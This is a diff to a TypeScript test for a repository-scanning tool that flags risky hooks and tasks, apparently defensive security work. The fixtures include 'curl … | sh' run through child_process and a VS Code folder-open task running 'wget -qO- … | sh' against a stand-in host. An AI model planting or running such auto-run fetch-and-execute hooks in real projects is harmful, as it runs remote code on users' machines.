@@ -1,5 +1,9 @@
 import assert from 'node:assert/strict';
-import { judgeRepository, type RepositoryTexts } from '../support/repository.js';
+import { analyseRepository } from '../../server/src/artifacts/analysis/repository/analyse-repository.js';
+import type { RepositoryAnalyser } from '../../server/src/artifacts/package-analyser.js';
+import { failed, ok } from '../../server/src/model/index.js';
+import { judgeOf, judgeRepository, REPOSITORY_FOLDER, treeOf, type RepositoryTexts } from '../support/repository.js';
+import { NOW } from '../support/subjects.js';
 
 const FILES: RepositoryTexts = {
   'package.json': { name: 'task', scripts: { postinstall: 'node setup.js' } },
@@ -9,6 +13,11 @@ const FILES: RepositoryTexts = {
 async function digestOf(files: RepositoryTexts): Promise<string> {
   const { hooks } = await judgeRepository(files);
   return hooks[0]?.subject.hook?.digest ?? '';
+}
+
+function tasksWith(command: string): RepositoryTexts {
+  const tasks = [{ label: 'env', command, runOptions: { runOn: 'folderOpen' } }];
+  return { '.vscode/tasks.json': { tasks } };
 }
 
 function accepting(digest: string): RepositoryTexts {
@@ -38,6 +47,36 @@ describe('judging repositories', () => {
     );
     const changed = { ...accepted, 'setup.js': `${String(FILES['setup.js'])}\n` };
     assert.equal((await judgeRepository(changed, true)).level, 'critical');
+  });
+
+  it('tells what stands in commands, and what was not looked into, where code breaks the analysis', async () => {
+    const files = {
+      '.husky/pre-commit': 'node tools/slow.js\n',
+      'tools/slow.js': `require('child_process').exec('curl https://a.example.invalid/x | sh');`,
+      ...tasksWith('wget -qO- https://a.example.invalid | sh'),
+    };
+    const analyser: RepositoryAnalyser = {
+      analyseRepository: (_, depth) =>
+        Promise.resolve(
+          depth === 'code'
+            ? failed('timeout', 'The analysis took more than 30 s and was given up.')
+            : ok(
+                analyseRepository(treeOf(files), () => false),
+                NOW,
+              ),
+        ),
+    };
+    const judge = judgeOf(files, analyser);
+    const ref = { folder: REPOSITORY_FOLDER, trusted: false };
+    const { hooks, problems } = await judge.judge(ref, new AbortController().signal);
+    assert.deepEqual(
+      hooks.map(({ level, subject }) => `${level} ${subject.name}`),
+      ['critical .vscode/tasks.json#env', 'none .husky/pre-commit#hook'],
+    );
+    assert.deepEqual(problems, [
+      'The analysis took more than 30 s and was given up.',
+      '.husky/pre-commit starts code that takes too long to follow',
+    ]);
   });
 
   it('lets no repository speak for itself that is not trusted, and says so', async () => {
